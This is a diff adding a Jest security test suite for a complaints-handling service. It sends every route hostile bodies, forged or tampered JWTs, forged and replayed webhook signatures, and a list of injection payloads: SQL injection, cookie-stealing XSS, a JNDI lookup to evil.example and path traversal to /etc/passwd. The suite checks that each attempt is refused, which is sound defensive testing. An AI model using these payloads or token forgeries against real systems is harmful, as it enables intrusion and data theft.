@@ -1,0 +1,361 @@
+import { randomBytes } from 'node:crypto';
+import { SignJWT } from 'jose';
+import { ROLES, Role } from '@complaints/contracts';
+import { formatTicketNumber } from '@complaints/domain';
+import { describeRoutes, RouteDeclaration, signWebhook } from '@complaints/platform';
+import { createTestIssuer } from '@complaints/testing';
+import { ALL_SERVICES, ServiceUnderTest, startInProcess } from './services-in-process';
+
+jest.setTimeout(300_000);
+
+/**
+ * Hostile input over every route of every service: each case must get a clear 4xx in
+ * problem+json, never a 5xx, and must leave every table of the service as it was.
+ */
+
+const UUID = '00000000-0000-4000-8000-000000000000';
+const WEB_SECRET = randomBytes(32);
+const WECHAT_SECRET = randomBytes(32);
+
+/** Headers of a correctly signed webhook request; `overrides` forge parts of it. */
+const signed = (body: string, overrides: { secret?: Buffer; timestamp?: number; nonce?: string; signature?: string; signedBody?: string } = {}) => {
+  const timestamp = overrides.timestamp ?? Math.floor(Date.now() / 1000);
+  const nonce = overrides.nonce ?? randomBytes(12).toString('hex');
+  return {
+    'x-signature-timestamp': String(timestamp),
+    'x-signature-nonce': nonce,
+    'x-signature': overrides.signature ?? signWebhook(overrides.secret ?? WEB_SECRET, timestamp, nonce, overrides.signedBody ?? body),
+    'x-channel-message-id': `msg-${randomBytes(6).toString('hex')}`,
+  };
+};
+const TICKET = formatTicketNumber('20260101', 1);
+
+/** A valid body for each route that takes one; a new body route without a sample fails the suite. */
+const SAMPLE_BODIES: Record<string, { body: Record<string, unknown>; required: string[]; freeText: string[] }> = {
+  'POST /v1/complaints': {
+    body: {
+      channel: 'web',
+      channelReference: 'web-form-1',
+      complainant: { customerId: 'C-1001', name: '王小明', phone: '13800138000', email: 'wang@example.com', idNumber: '11010519491231002X' },
+      description: '信用卡年费被重复收取。',
+      productHint: 'credit card',
+      occurredAt: '2026-11-01T08:00:00+08:00',
+      amountInDispute: { amountMinor: 30000, currency: 'CNY' },
+      preferredReplyChannel: 'sms',
+      language: 'zh-CN',
+    },
+    required: ['channel', 'complainant', 'complainant.name', 'description', 'preferredReplyChannel', 'amountInDispute.amountMinor', 'amountInDispute.currency'],
+    freeText: ['channelReference', 'complainant.customerId', 'complainant.name', 'description', 'productHint'],
+  },
+  'POST /v1/cases/:caseId/resolution': {
+    body: {
+      outcome: 'upheld',
+      explanation: '系统重复收费，予以退还。',
+      remedy: { type: 'fee-refund', amount: { amountMinor: 30000, currency: 'CNY' } },
+    },
+    required: ['outcome', 'explanation', 'remedy.type', 'remedy.amount', 'remedy.amount.amountMinor', 'remedy.amount.currency'],
+    freeText: ['explanation'],
+  },
+};
+
+const INJECTIONS = [
+  "' OR '1'='1' --",
+  "'; DROP TABLE complaints; --",
+  '<script>alert(document.cookie)</script>',
+  '<img src=x onerror=alert(1)>',
+  '${jndi:ldap://evil.example/a}',
+  '{{7*7}}',
+  '../../etc/passwd',
+  '\u200bweb',
+  'web\u202e',
+  '＜ｓｃｒｉｐｔ＞',
+  '😀',
+];
+const UNSAFE_TEXT = ['bad\u0000byte', 'bell\u0007', 'lone \ud800 surrogate', 'esc\u001b[31m'];
+const UNICODE_TEXT = ['零宽\u200b空格', '\u202eتم الدفع\u202c', '投诉😡😡', '全角，标点！？', 'e\u0301\u0301 combining'];
+
+interface Attempt {
+  what: string;
+  method: string;
+  path: string;
+  headers?: Record<string, string>;
+  body?: string;
+}
+
+const leaves = (value: unknown, prefix = ''): [string, unknown][] =>
+  value !== null && typeof value === 'object' && !Array.isArray(value)
+    ? Object.entries(value).flatMap(([k, v]) => leaves(v, prefix ? `${prefix}.${k}` : k))
+    : [[prefix, value]];
+
+const withPath = (body: Record<string, unknown>, path: string, value: unknown, remove = false): Record<string, unknown> => {
+  const copy = structuredClone(body);
+  const keys = path.split('.');
+  let target = copy as Record<string, unknown>;
+  for (const k of keys.slice(0, -1)) target = target[k] as Record<string, unknown>;
+  if (remove) delete target[keys[keys.length - 1]];
+  else target[keys[keys.length - 1]] = value;
+  return copy;
+};
+
+const fill = (path: string, ticket = TICKET, id = UUID) => path.replace(':ticketNumber', encodeURIComponent(ticket)).replace(/:[A-Za-z]+Id\b/g, encodeURIComponent(id));
+
+function bodyAttempts(route: RouteDeclaration, sample: (typeof SAMPLE_BODIES)[string]): Attempt[] {
+  const at = (what: string, body: string, headers: Record<string, string> = {}): Attempt => ({ what, method: route.method, path: fill(route.path), body, headers });
+  const json = (what: string, value: unknown) => at(what, JSON.stringify(value));
+  const attempts: Attempt[] = [
+    at('truncated JSON', JSON.stringify(sample.body).slice(0, 40)),
+    at('trailing comma', '{"a": 1,}'),
+    at('single quotes', "{'channel': 'web'}"),
+    at('NaN literal', '{"amountMinor": NaN}'),
+    at('comment in JSON', '{"channel": "web" /* x */}'),
+    at('empty body', ''),
+    at('not JSON at all', 'channel=web&name=x'),
+    json('an array body', [sample.body]),
+    json('a string body', 'complaint'),
+    json('a number body', 42),
+    json('null body', null),
+    json('array in place of an object', { ...sample.body, [Object.keys(sample.body).find((k) => typeof sample.body[k] === 'object')!]: [] }),
+    at('huge body (300 kB)', JSON.stringify({ ...sample.body, padding: 'x'.repeat(300_000) })),
+    at('deeply nested (5,000 levels)', '['.repeat(5000) + ']'.repeat(5000)),
+    at('deeply nested object (40 levels)', JSON.stringify(Array.from({ length: 40 }).reduce<unknown>((inner) => ({ a: inner }), 1))),
+    at('JSON sent as text/plain', JSON.stringify(sample.body), { 'content-type': 'text/plain' }),
+    at('unsupported charset', JSON.stringify(sample.body), { 'content-type': 'application/json; charset=ibm-1047' }),
+    json('unknown top-level field', { ...sample.body, isAdmin: true }),
+    at('__proto__ pollution', JSON.stringify(sample.body).replace(/^\{/, '{"__proto__":{"isAdmin":true},')),
+    json('constructor pollution', { ...sample.body, constructor: { prototype: { isAdmin: true } } }),
+  ];
+  for (const field of sample.required) {
+    attempts.push(json(`missing ${field}`, withPath(sample.body, field, undefined, true)));
+    attempts.push(json(`${field} null`, withPath(sample.body, field, null)));
+  }
+  for (const [field, value] of leaves(sample.body)) {
+    const wrong: unknown[] = typeof value === 'string' ? [12345, true, ['x'], { x: 1 }] : typeof value === 'number' ? ['1', 1.5, -1, 1e300, true] : [];
+    for (const w of wrong) attempts.push(json(`${field} as ${JSON.stringify(w)}`, withPath(sample.body, field, w)));
+    if (typeof value === 'string') {
+      for (const u of UNSAFE_TEXT) attempts.push(json(`${field} with ${JSON.stringify(u)}`, withPath(sample.body, field, u)));
+      attempts.push(json(`${field} far too long`, withPath(sample.body, field, '长'.repeat(20_000))));
+      if (!sample.freeText.includes(field)) {
+        for (const inj of INJECTIONS) attempts.push(json(`${field} = ${JSON.stringify(inj)}`, withPath(sample.body, field, inj)));
+      }
+    }
+    if (value !== null && typeof value === 'object') attempts.push(json(`${field} as an array`, withPath(sample.body, field, [value])));
+  }
+  for (const obj of leaves(sample.body).map(([f]) => f.split('.').slice(0, -1).join('.')).filter(Boolean)) {
+    attempts.push(json(`unknown field inside ${obj}`, withPath(sample.body, `${obj}.injected`, 'x')));
+  }
+  return attempts;
+}
+
+function paramAttempts(route: RouteDeclaration): Attempt[] {
+  const attempts: Attempt[] = [];
+  const hasTicket = route.path.includes(':ticketNumber');
+  const hasId = /:[A-Za-z]+Id\b/.test(route.path);
+  const bad = [...INJECTIONS, 'CMP-20260101-00000001-9', '１２３', `${UUID}'`, '%00', 'null'];
+  for (const value of bad) {
+    if (hasTicket) attempts.push({ what: `ticket = ${JSON.stringify(value)}`, method: route.method, path: fill(route.path, value) });
+    if (hasId) attempts.push({ what: `id = ${JSON.stringify(value)}`, method: route.method, path: fill(route.path, TICKET, value) });
+  }
+  if (route.method === 'GET' && route.path.endsWith('/cases') || route.path.endsWith('/remedies') || route.path.endsWith('/notifications')) {
+    for (const value of [...INJECTIONS, '%00']) attempts.push({ what: `query complaintId = ${JSON.stringify(value)}`, method: 'GET', path: `${route.path}?complaintId=${encodeURIComponent(value)}` });
+    attempts.push({ what: 'query complaintId given twice', method: 'GET', path: `${route.path}?complaintId=${UUID}&complaintId=${UUID}` });
+    attempts.push({ what: 'query complaintId as an object', method: 'GET', path: `${route.path}?complaintId[a]=1` });
+    attempts.push({ what: 'misspelt query parameter', method: 'GET', path: `${route.path}?complaintid=${UUID}` });
+    attempts.push({ what: 'unknown query parameter', method: 'GET', path: `${route.path}?complaintId=${UUID}&limit=1000000` });
+  }
+  return attempts;
+}
+
+describe('hostile input over every route of every service', () => {
+  let tried = 0;
+  const tally: Record<string, number> = {};
+
+  afterAll(() => {
+    process.stdout.write(
+      `hostile-input: ${tried} cases tried, all answered 4xx in problem+json with nothing stored (${Object.entries(tally)
+        .map(([k, n]) => `${k}: ${n}`)
+        .join(', ')})\n`,
+    );
+  });
+
+  describe.each(ALL_SERVICES.map((d) => [d.name, d] as const))('%s', (name, definition) => {
+    let service: ServiceUnderTest;
+    let routes: RouteDeclaration[];
+    const tokenFor = async (route: RouteDeclaration) => {
+      if (route.access?.kind !== 'roles') return null;
+      const role = route.access.roles[0] as Role;
+      return service.issuer.token(role, { channel: role === 'channel-adapter' ? 'web' : undefined, subject: 'C-1001' });
+    };
+
+    beforeAll(async () => {
+      service = await startInProcess(definition, {
+        WEBHOOK_SECRETS: `web:${WEB_SECRET.toString('base64')},wechat:${WECHAT_SECRET.toString('base64')}`,
+      });
+      routes = describeRoutes(service.running.app).filter((r) => r.access?.kind === 'roles');
+    });
+    afterAll(() => service?.stop());
+
+    const send = async (attempt: Attempt, token: string | null) => {
+      const res = await fetch(`${service.baseUrl}${attempt.path}`, {
+        method: attempt.method,
+        headers: {
+          'content-type': 'application/json',
+          ...(token ? { authorization: `Bearer ${token}` } : {}),
+          ...attempt.headers,
+        },
+        body: attempt.method === 'GET' ? undefined : (attempt.body ?? '{}'),
+      });
+      const text = await res.text();
+      return { status: res.status, type: res.headers.get('content-type') ?? '', text };
+    };
+
+    const expectRefused = async (family: string, attempts: Attempt[], token: string | null, allowed: number[] = [], spendsNonces = false) => {
+      const counts = async () => {
+        const all = await service.rowCounts();
+        // A correctly signed request spends its nonce even when its body is then refused.
+        if (spendsNonces) delete all.webhook_nonces;
+        return all;
+      };
+      const before = await counts();
+      const wrong: string[] = [];
+      for (const attempt of attempts) {
+        const res = await send(attempt, token);
+        tried += 1;
+        tally[family] = (tally[family] ?? 0) + 1;
+        const clear = res.status >= 400 && res.status < 500 && res.type.startsWith('application/problem+json') && JSON.parse(res.text).status === res.status;
+        if (!clear && !allowed.includes(res.status)) wrong.push(`${attempt.method} ${attempt.path.slice(0, 80)} [${attempt.what}] -> ${res.status} ${res.text.slice(0, 160)}`);
+      }
+      expect(wrong).toEqual([]);
+      expect(await counts()).toEqual(before);
+    };
+
+    it('refuses missing, expired, foreign, forged and malformed tokens with 401', async () => {
+      const foreign = await createTestIssuer('foreign');
+      for (const route of routes) {
+        const role = (route.access as { roles: Role[] }).roles[0];
+        const valid = await service.issuer.token(role, { channel: 'web' });
+        const [h, p] = valid.split('.');
+        const payload = JSON.parse(Buffer.from(p, 'base64url').toString());
+        const tampered = `${h}.${Buffer.from(JSON.stringify({ ...payload, roles: [...ROLES] })).toString('base64url')}.${valid.split('.')[2]}`;
+        const unsigned = `${Buffer.from('{"alg":"none","typ":"JWT"}').toString('base64url')}.${p}.`;
+        const hs256 = await new SignJWT(payload).setProtectedHeader({ alg: 'HS256' }).sign(new TextEncoder().encode('a-guessed-shared-secret-of-32-bytes!'));
+        const tokens: [string, string | null, Record<string, string>][] = [
+          ['no token', null, {}],
+          ['expired', await service.issuer.token(role, { channel: 'web', expiresIn: -3600 }), {}],
+          ['foreign issuer key', await foreign.token(role, { channel: 'web', issuer: service.issuer.issuer }), {}],
+          ['wrong audience', await service.issuer.token(role, { channel: 'web', audience: 'another-api' }), {}],
+          ['wrong issuer', await service.issuer.token(role, { channel: 'web', issuer: 'urn:someone-else' }), {}],
+          ['tampered roles', tampered, {}],
+          ['alg none', unsigned, {}],
+          ['HS256 with a guessed secret', hs256, {}],
+          ['garbage bearer', 'not-a-token', {}],
+          ['basic auth', null, { authorization: 'Basic YWRtaW46YWRtaW4=' }],
+          ['empty bearer', null, { authorization: 'Bearer ' }],
+        ];
+        const sample = SAMPLE_BODIES[`${route.method} ${route.path}`];
+        const attempts = tokens.map(([what, token, headers]) => ({
+          what,
+          method: route.method,
+          path: fill(route.path),
+          body: sample ? JSON.stringify(sample.body) : undefined,
+          headers: token ? { ...headers, authorization: `Bearer ${token}` } : headers,
+        }));
+        await expectRefused('tokens', attempts, null);
+      }
+    });
+
+    it('refuses hostile path and query parameters', async () => {
+      for (const route of routes) {
+        const sample = SAMPLE_BODIES[`${route.method} ${route.path}`];
+        const attempts = paramAttempts(route).map((a) => ({ ...a, body: sample ? JSON.stringify(sample.body) : undefined }));
+        // 404: a well-formed id that names nothing is a clear answer too.
+        await expectRefused('parameters', attempts, await tokenFor(route), []);
+      }
+    });
+
+    it('refuses hostile bodies on every route that takes one', async () => {
+      const bodyRoutes = routes.filter((r) => r.method !== 'GET');
+      for (const route of bodyRoutes) {
+        const sample = SAMPLE_BODIES[`${route.method} ${route.path}`];
+        expect({ route: `${route.method} ${route.path}`, hasSample: !!sample }).toEqual({ route: `${route.method} ${route.path}`, hasSample: true });
+        await expectRefused('bodies', bodyAttempts(route, sample), await tokenFor(route));
+      }
+      if (name === 'intake') {
+        const route = routes.find((r) => r.method === 'POST' && r.path === '/v1/complaints')!;
+        const headerAttempts = [...INJECTIONS, 'k'.repeat(200), 'a b'].map((key) => ({
+          what: `Idempotency-Key ${JSON.stringify(key)}`,
+          method: 'POST',
+          path: route.path,
+          body: JSON.stringify(SAMPLE_BODIES['POST /v1/complaints'].body),
+          headers: { 'idempotency-key': encodeURIComponent(key) === key ? key : encodeURIComponent(key) },
+        }));
+        await expectRefused('headers', headerAttempts, await tokenFor(route));
+      }
+    });
+
+    if (name === 'intake') {
+      it('refuses forged, stale, replayed and unsigned webhooks with 401, and hostile signed bodies with 400', async () => {
+        const webhooks = describeRoutes(service.running.app).filter((r) => r.access?.kind === 'signed-webhook');
+        expect(webhooks.map((r) => `${r.method} ${r.path}`)).toEqual(['POST /v1/channels/:channel/inbound']);
+        const body = JSON.stringify(SAMPLE_BODIES['POST /v1/complaints'].body);
+        const path = '/v1/channels/web/inbound';
+        const now = Math.floor(Date.now() / 1000);
+        const replayed = signed(body);
+        const accepted = await send({ what: 'genuine', method: 'POST', path, body, headers: replayed }, null);
+        expect(accepted.status).toBe(201);
+        tried += 1;
+        tally['webhook signatures'] = 1;
+
+        const investigator = await service.issuer.token('investigator');
+        const forged: Attempt[] = ([
+          { what: 'replay of an accepted request', headers: { ...replayed, 'x-channel-message-id': 'msg-replay' } },
+          { what: 'no signature headers', headers: {} },
+          { what: 'signed with a guessed secret', headers: signed(body, { secret: randomBytes(32) }) },
+          { what: "signed with another channel's secret", headers: signed(body, { secret: WECHAT_SECRET }) },
+          { what: 'body changed after signing', headers: signed(body, { signedBody: body.replace('王小明', '李四') }) },
+          { what: 'timestamp an hour old', headers: signed(body, { timestamp: now - 3600 }) },
+          { what: 'timestamp an hour ahead', headers: signed(body, { timestamp: now + 3600 }) },
+          { what: 'signature truncated', headers: { ...signed(body), 'x-signature': signed(body)['x-signature'].slice(0, 32) } },
+          { what: 'signature in base64', headers: { ...signed(body), 'x-signature': Buffer.from('x'.repeat(32)).toString('base64') } },
+          { what: 'nonce too short', headers: signed(body, { nonce: 'abc' }) },
+          { what: 'timestamp not a number', headers: { ...signed(body), 'x-signature-timestamp': 'yesterday' } },
+          { what: 'a bearer token instead of a signature', headers: { authorization: `Bearer ${investigator}` } },
+        ] as { what: string; headers: Record<string, string> }[]).map((a) => ({ ...a, method: 'POST', path, body }));
+        forged.push({ what: 'a channel without a secret', method: 'POST', path: '/v1/channels/branch/inbound', body, headers: signed(body) });
+        await expectRefused('webhook signatures', forged, null);
+
+        // Correctly signed but hostile bodies: the signature proves the sender, not the content.
+        const route = webhooks[0];
+        const hostile = bodyAttempts({ ...route, path: path }, SAMPLE_BODIES['POST /v1/complaints']).map((a) => ({
+          ...a,
+          headers: { ...signed(a.body ?? ''), ...a.headers },
+        }));
+        hostile.push({ what: 'channel in the body differs from the path', method: 'POST', path, body: JSON.stringify({ ...JSON.parse(body), channel: 'wechat' }), headers: signed(JSON.stringify({ ...JSON.parse(body), channel: 'wechat' })) });
+        hostile.push({ what: 'no channel message id', method: 'POST', path, body, headers: { ...signed(body), 'x-channel-message-id': '' } });
+        await expectRefused('signed hostile bodies', hostile, null, [], true);
+      });
+
+      it('keeps injection and Unicode edge cases in free text as inert text, byte for byte', async () => {
+        const sample = SAMPLE_BODIES['POST /v1/complaints'];
+        const token = await service.issuer.token('channel-adapter', { channel: 'web' });
+        const investigator = await service.issuer.token('investigator');
+        let stored = 0;
+        for (const text of [...INJECTIONS, ...UNICODE_TEXT]) {
+          const body = withPath(withPath(sample.body, 'description', `投诉：${text}`), 'complainant.name', text);
+          const res = await fetch(`${service.baseUrl}/v1/complaints`, {
+            method: 'POST',
+            headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
+            body: JSON.stringify(body),
+          });
+          expect(res.status).toBe(201);
+          const { complaintId } = (await res.json()) as { complaintId: string };
+          const view = await fetch(`${service.baseUrl}/v1/staff/complaints/${complaintId}`, { headers: { authorization: `Bearer ${investigator}` } });
+          const shown = (await view.json()) as { description: string; complainant: { name: string } };
+          expect({ description: shown.description, name: shown.complainant.name }).toEqual({ description: `投诉：${text}`, name: text });
+          stored += 1;
+        }
+        tried += stored;
+        tally['free text kept inert'] = stored;
+      });
+    }
+  });
+});
